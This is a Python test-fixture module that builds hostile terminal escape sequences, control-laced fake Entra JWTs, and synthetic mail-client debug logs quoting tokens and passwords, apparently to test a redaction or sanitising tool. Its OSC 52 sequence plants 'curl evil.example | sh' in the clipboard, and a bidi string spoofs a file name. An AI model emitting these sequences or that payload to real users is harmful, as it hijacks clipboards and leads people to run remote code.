"""What the attacks are made of: terminal control sequences, hostile JWTs and the logs that quote them."""

from __future__ import annotations

import base64
import json
import random

OSC52_PAYLOAD = "curl evil.example | sh"
OSC52 = "\x1b]52;c;" + base64.b64encode(OSC52_PAYLOAD.encode()).decode() + "\x07"  # writes the clipboard
OSC0 = "\x1b]0;pwned-title\x07"  # renames the window / tmux pane
CSI_CLEAR = "\x1b[2J\x1b[H"  # clears the screen
C1_CSI = "\x9b2J"  # the same through the 8-bit CSI
DCS = "\x1bP+q544e\x1b\\"  # device control string (tmux/xterm queries)
BIDI = "\u202egnp.exe\u202c\u2066x\u2069"
HOSTILE = [OSC52, OSC0, CSI_CLEAR, C1_CSI, DCS, BIDI, "\x07\x08\x7f\x00"]
ALL_CONTROLS = "".join(HOSTILE)

ISSUER = "https://sts.windows.net/72f988bf-86f1-41af-91ab-2d7cd011db47/"


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def jwt(claims: dict[str, object], *, seed: int = 1, header: dict[str, str] | None = None) -> str:
    rng = random.Random(seed)
    head = header or {"typ": "JWT", "alg": "RS256", "kid": "kWbkaa6qs8wsTnBwiiNYOhHbnAw"}
    return f"{b64url(json.dumps(head).encode())}.{b64url(json.dumps(claims).encode())}.{b64url(rng.randbytes(256))}"


def hostile_claims(user: str = "alice@contoso.com", seed: int = 1) -> dict[str, object]:
    """Entra-like claims that still drive the Microsoft rules (audience, scope, user), every string laced with control
    sequences: the user-facing ones the issue names, a nested value and a key."""
    return {
        "aud": "https://outlook.office.com", "iss": ISSUER, "iat": 1_800_000_000, "nbf": 1_800_000_000, "exp": 1_800_003_600,
        "scp": "IMAP.AccessAsUser.All " + CSI_CLEAR, "upn": user + OSC52, "unique_name": user + OSC0,
        "appid": "00000000-1111-2222-3333-444444444444" + C1_CSI, "app_displayname": "Relay " + DCS + BIDI,
        "name": "Mallory " + ALL_CONTROLS, "tid": "72f988bf-86f1-41af-91ab-2d7cd011db47", "ver": "1.0",
        "uti": b64url(random.Random(seed).randbytes(16)), "idtyp": "user",
        "xms_nested": {"level": [{"deep" + OSC0: OSC52}], OSC0: ALL_CONTROLS},
    }  # fmt: skip


def postfix_sessions(tokens: list[str], *, user: str = "alice@contoso.com", reply: str = "535 5.7.3 Authentication unsuccessful") -> str:
    """Postfix with sasl-xoauth2 debug logging: each session quotes its token in the SASL initial reply."""
    lines = []
    for i, token in enumerate(tokens):
        ts = f"2026-11-28T06:{i // 60 % 60:02d}:{i % 60:02d}.100000+00:00"
        lines += [
            f"{ts} relay01 postfix/smtp[{7000 + i}]: Trusted TLS connection established to smtp.office365.com[52.96.90.34]:587: "
            "TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)",
            f"{ts} relay01 postfix/smtp[{7000 + i}]: xsasl_cyrus_client_first: uncoded initial reply: "
            f"user={user}\\001auth=Bearer {token}\\001\\001",
            f"{ts} relay01 postfix/smtp[{7000 + i}]: 4C1A{i:06X}: SASL authentication failed; server smtp.office365.com[52.96.90.34] "
            f"said: {reply}",
        ]
    return "\n".join(lines) + "\n"


def imaplib_session(client_lines: list[str], server_lines: list[str]) -> str:
    """Python imaplib debug output (`imaplib.Debug = 4`): one exchange, client lines then the server's answers."""
    out = ["  21:04.17 imaplib version 2.58", "  21:04.17 new IMAP4 connection, tag=b'LFKD'",
           "  21:04.31 < b'* OK Gimap ready for requests from 203.0.113.7'"]  # fmt: skip
    out += [f"  21:04.33 > {line.encode()!r}" for line in client_lines]
    out += [f"  21:04.35 < {line.encode()!r}" for line in server_lines]
    return "\n".join(out) + "\n"


def javamail_login(password: str, echo: str, *, exception: str = "") -> str:
    """JavaMail (as Jira logs it) with mail.debug.auth=true: the password in the login trace, a server line echoing
    `echo`, and optionally an exception whose message is `exception`."""
    prefix = "[Alerts Incident] Caesium-1-3 anonymous Incident ITSM"
    lines = [
        'IMAPS: trying to connect to host "outlook.office365.com", port 993, isSSL true',
        f"{prefix} * OK The Microsoft Exchange IMAP4 service is ready.",
        f"{prefix} IUR0 CAPABILITY",
        f"{prefix} * CAPABILITY IMAP4 IMAP4rev1 AUTH=PLAIN AUTH=XOAUTH2 SASL-IR UIDPLUS ID UNSELECT CHILDREN IDLE NAMESPACE LITERAL+",
        f"{prefix} IUR0 OK CAPABILITY completed.",
        "IMAPS: AUTH: PLAIN",
        f"IMAPS: protocolConnect login, host=outlook.office365.com, user=alice@contoso.com, password={password}",
        "IMAPS: AUTHENTICATE PLAIN command trace suppressed",
        f"{prefix} * NO [ALERT] {echo}",
        "IMAPS: AUTHENTICATE PLAIN command result: IUR1 NO AUTHENTICATE failed.",
    ]
    if exception:
        lines.append(f"WARN {prefix} [10900]: javax.mail.AuthenticationFailedException: {exception}")
    return "\n".join(lines) + "\n"
